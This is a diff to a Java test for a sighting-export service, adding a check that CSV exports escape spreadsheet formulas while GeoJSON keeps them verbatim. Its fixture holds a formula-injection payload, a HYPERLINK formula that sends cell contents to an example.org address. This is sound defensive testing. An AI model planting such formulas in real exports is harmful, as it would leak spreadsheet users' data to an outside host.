@@ -5,6 +5,7 @@ import static org.hamcrest.Matchers.equalTo;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.technocarte.export.ResearchFixtures.get;
 
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.quarkus.test.junit.QuarkusTest;
 import java.time.LocalDate;
 import java.time.ZoneOffset;
@@ -13,14 +14,17 @@ import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.technocarte.sighting.SightingFixtures;
 
 @QuarkusTest
 class CsvExportTest {
 
   private final ResearchFixtures fixtures;
+  private final SightingFixtures sightings;
 
-  CsvExportTest(ResearchFixtures fixtures) {
+  CsvExportTest(ResearchFixtures fixtures, SightingFixtures sightings) {
     this.fixtures = fixtures;
+    this.sightings = sightings;
   }
 
   @BeforeEach
@@ -67,6 +71,36 @@ class CsvExportTest {
     Map<String, String> gare = row(rows, fixtures.gare());
     assertEquals("alpr", gare.get("surveillanceType"));
     assertEquals("", gare.get("height"), "an unknown height is an empty cell");
+  }
+
+  @Test
+  void shouldKeepWalkersFormulasInertInSpreadsheetsButExactInGeoJson() {
+    String formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"Voir\")";
+    ObjectNode feature = SightingFixtures.feature(SightingFixtures.MID_ATLANTIC);
+    SightingFixtures.properties(feature)
+        .put("notes", formula)
+        .put("operator", "+33 4 67 00 00 00")
+        .put("vsaEvidence", "@SUM(1+1)")
+        .put("height", 3);
+    long id = sightings.approved(feature);
+
+    Map<String, String> row = row(Csv.parse(get("/api/export/sightings.csv").asString()), id);
+    assertEquals("'" + formula, row.get("notes"));
+    assertEquals("'+33 4 67 00 00 00", row.get("operator"));
+    assertEquals("'@SUM(1+1)", row.get("vsaEvidence"));
+    assertEquals("-35", row.get("lon"), "numbers are never prefixed, negative ones included");
+    assertEquals("3", row.get("height"));
+    assertEquals(
+        ResearchFixtures.COMEDIE_NOTES,
+        row(Csv.parse(get("/api/export/sightings.csv").asString()), fixtures.comedie())
+            .get("notes"),
+        "other text is untouched");
+
+    get("/api/export/sightings.geojson?bbox=-36,39,-34,41")
+        .then()
+        .statusCode(200)
+        .body("features[0].properties.notes", equalTo(formula))
+        .body("features[0].properties.operator", equalTo("+33 4 67 00 00 00"));
   }
 
   private static Map<String, String> row(List<List<String>> rows, long id) {
